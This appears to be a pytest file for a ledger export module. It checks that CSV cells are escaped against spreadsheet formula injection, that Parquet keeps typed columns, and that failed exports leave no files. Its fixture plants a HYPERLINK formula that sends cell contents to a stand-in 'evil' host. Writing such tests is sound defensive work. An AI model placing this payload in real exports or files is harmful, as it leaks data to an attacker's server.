"""CSV that no spreadsheet runs, Parquet with types, whole files or none."""

import csv
import io

import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from serving.ledger.export import FORMULA_STARTS, export, safe_cell
from serving.ledger.reader import LedgerReader

ATTACK = '=HYPERLINK("http://evil/?"&A1,"click")'


@pytest.fixture
def reader(location, writer, make_request, noon_us):
    for number in range(12_000):
        writer.put(make_request(number, tenant=ATTACK if number == 5 else "t", ttft_s=0.25, energy_j=None))
    writer.submit(make_request(99_999, arrived_us=noon_us + 10**9)).result(30)
    opened = LedgerReader(location)
    yield opened
    opened.close()


def test_csv(reader, tmp_path, noon_us):
    path, seen = tmp_path / "r.csv", []
    assert export(reader, "requests", path, noon_us, noon_us + 12_000, seen.append) == 12_000
    assert seen[-1] == 12_000
    assert len(seen) > 1
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["request_id"] for row in rows] == [f"r{number}" for number in range(12_000)]
    assert rows[5]["tenant"] == "'" + ATTACK
    assert (rows[5]["ttft_s"], rows[5]["energy_j"]) == ("0.25", "")
    assert list(tmp_path.glob(".*")) == []


def test_parquet_is_typed_and_unescaped(reader, tmp_path, noon_us):
    path = tmp_path / "r.parquet"
    assert export(reader, "requests", path, noon_us, noon_us + 12_000) == 12_000
    table = pyarrow.parquet.read_table(path)
    assert table.column("tenant")[5].as_py() == ATTACK
    assert str(table.schema.field("arrived_us").type) == "int64"
    assert str(table.schema.field("ttft_s").type) == "double"
    assert table.column("energy_j").null_count == 12_000


@pytest.mark.parametrize(
    ("name", "file", "words"), [("secrets", "a.csv", "choose one of"), ("audit", "a.xls", "end in")]
)
def test_what_cannot_be_exported(reader, tmp_path, name, file, words):
    with pytest.raises(ValueError, match=words):
        export(reader, name, tmp_path / file, 0, 1)


def test_a_failed_export_leaves_nothing(reader, tmp_path, noon_us):
    def fail(_rows: int) -> None:
        raise KeyboardInterrupt

    for ending in ("csv", "parquet"):
        with pytest.raises(KeyboardInterrupt):
            export(reader, "requests", tmp_path / f"r.{ending}", noon_us, noon_us + 12_000, fail)
        assert not (tmp_path / f"r.{ending}").exists()
    assert not [path for path in tmp_path.iterdir() if path.is_file()]


@given(st.text())
def test_no_cell_begins_a_formula(value):
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") in (value, value.removeprefix("'"))
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell, "x"])
    file.seek(0)
    assert next(csv.reader(file)) == [cell, "x"]


def test_numbers_stay_numbers():
    assert (safe_cell(-1.5), safe_cell(None)) == (-1.5, None)
